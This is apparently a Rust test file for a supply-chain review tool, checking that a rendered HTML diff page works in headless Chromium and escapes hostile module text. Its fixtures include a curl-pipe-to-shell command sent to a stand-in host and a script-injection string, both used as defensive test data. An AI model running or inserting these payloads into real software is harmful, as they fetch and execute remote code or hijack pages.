//! The review page in a real browser (headless Chromium, Debian's `chromium` package): loaded
//! from file://, the summary and the first behaviour change are visible, a module diff opens
//! from its URL fragment (with syntax highlighting), nothing is fetched from the network, and a
//! screenshot is saved under target/. Skips with a note when chromium is absent, except on CI
//! (CI=true), where it fails.
mod review_support;
use review_support::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use vetted::content::manifest::BehaviourKind;
use vetted::diff::{self, Contents};

fn chromium() -> Option<PathBuf> {
    for c in ["/usr/bin/chromium", "/usr/bin/chromium-browser"] {
        if Path::new(c).exists() {
            return Some(PathBuf::from(c));
        }
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("chromium is required on CI (apt-get install -y chromium)");
    }
    eprintln!("note: chromium not found: review page browser test skipped");
    None
}

/// Run chromium headless on `url` with `extra` flags; kill it after a minute.
fn run_chromium(bin: &Path, url: &str, extra: &[String]) -> String {
    let profile = tempfile::tempdir().expect("profile dir");
    let mut cmd = Command::new(bin);
    cmd.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--hide-scrollbars",
        "--window-size=1280,1600",
        "--virtual-time-budget=3000",
    ])
    .arg(format!("--user-data-dir={}", profile.path().display()))
    .args(extra)
    .arg(url)
    .stdout(Stdio::piped())
    .stderr(Stdio::null());
    let mut child = cmd.spawn().expect("start chromium");
    let start = Instant::now();
    loop {
        match child.try_wait() {
            Ok(Some(_)) => break,
            Ok(None) if start.elapsed() > Duration::from_secs(90) => {
                let _ = child.kill();
                panic!("chromium did not finish in 90 s");
            }
            Ok(None) => std::thread::sleep(Duration::from_millis(100)),
            Err(e) => panic!("waiting for chromium: {e}"),
        }
    }
    let out = child.wait_with_output().expect("chromium output");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A report with behaviour changes and a changed module, made here.
fn page() -> String {
    let common = common_code();
    let old_js = format!("{common}export function b(){{return fetch('https://a.example/v1')}}\n");
    let new_js = format!(
        "{common}export function b(){{return fetch('https://a.example/v1')}}\nexport function c(){{require('child_process').exec('curl https://x.example/i | sh')}}\n"
    );
    let (old_js, new_js) = (old_js.as_bytes(), new_js.as_bytes());
    let old_p = "package/tool!/$bunfs/root/m-11111111.js";
    let new_p = "package/tool!/$bunfs/root/m-22222222.js";
    let old = manifest_with(vec![(old_p, entry(old_js, vec![]))], "old");
    let new = manifest_with(
        vec![(
            new_p,
            entry(
                new_js,
                vec![behaviour(
                    BehaviourKind::ProcessSpawn,
                    "curl https://x.example/i | sh",
                    &["shell", "suspicious-command"],
                )],
            ),
        )],
        "new",
    );
    let mut oc = Contents::default();
    oc.insert(old_p, old_js.to_vec());
    let mut nc = Contents::default();
    nc.insert(new_p, new_js.to_vec());
    let r = diff::diff_with("old", &old, Some(&oc), "new", &new, Some(&nc));
    assert_eq!(r.review.behaviour_changes.len(), 1);
    diff::html::render(
        &r,
        "vetted certify npm:x@2 --delta-from 1 --review sha256:00",
    )
}

#[test]
fn review_page_works_in_headless_chromium() {
    let html = page();
    assert!(html.len() < 20 << 20);
    let Some(bin) = chromium() else {
        return;
    };
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("target");
    std::fs::create_dir_all(&target).expect("target dir");
    let file = target.join("review-page-test.html");
    std::fs::write(&file, &html).expect("write page");
    let url = format!("file://{}#m0", file.display());

    let dom = run_chromium(&bin, &url, &["--dump-dom".into()]);
    assert!(
        dom.contains("data-ready=\"1\""),
        "the page script ran:\n{dom}"
    );
    let visible = dom
        .split("data-visible=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap_or_default();
    assert!(
        visible.contains("summary"),
        "summary not visible: {visible:?}"
    );
    assert!(
        visible.contains("first-behaviour-change"),
        "first behaviour change not visible: {visible:?}"
    );
    assert!(
        dom.contains("data-open-modules=\"1\""),
        "the module diff did not open"
    );
    let m0 = dom.split("id=\"m0\"").nth(1).unwrap_or_default();
    assert!(
        dom.contains("<details class=\"module\" id=\"m0\"") && m0.contains("tok-kw"),
        "no highlighting"
    );
    assert!(m0.contains("child_process"));

    let shot = target.join("review-page.png");
    let _ = std::fs::remove_file(&shot);
    run_chromium(&bin, &url, &[format!("--screenshot={}", shot.display())]);
    let png = std::fs::read(&shot).expect("screenshot written");
    assert!(
        png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 10_000,
        "{} bytes",
        png.len()
    );
    eprintln!("screenshot: {}", shot.display());
}

/// The same page with hostile module text: the text is shown, never run.
#[test]
fn hostile_module_text_is_escaped_in_the_page() {
    let hostile = "export const s=\"</script><script>document.title='pwned'</script>\";\n";
    let p_old = "package/x!/$bunfs/root/h-11111111.js";
    let p_new = "package/x!/$bunfs/root/h-22222222.js";
    let old = manifest_with(vec![(p_old, entry(b"export const s=1;\n", vec![]))], "o");
    let new = manifest_with(vec![(p_new, entry(hostile.as_bytes(), vec![]))], "n");
    let mut oc = Contents::default();
    oc.insert(p_old, b"export const s=1;\n".to_vec());
    let mut nc = Contents::default();
    nc.insert(p_new, hostile.as_bytes().to_vec());
    let r = diff::diff_with("o", &old, Some(&oc), "n", &new, Some(&nc));
    let html = diff::html::render(&r, "x");
    assert!(!html.contains("<script>document.title"));
    assert_eq!(
        html.matches("<script>").count(),
        1,
        "only the page's own script"
    );
}
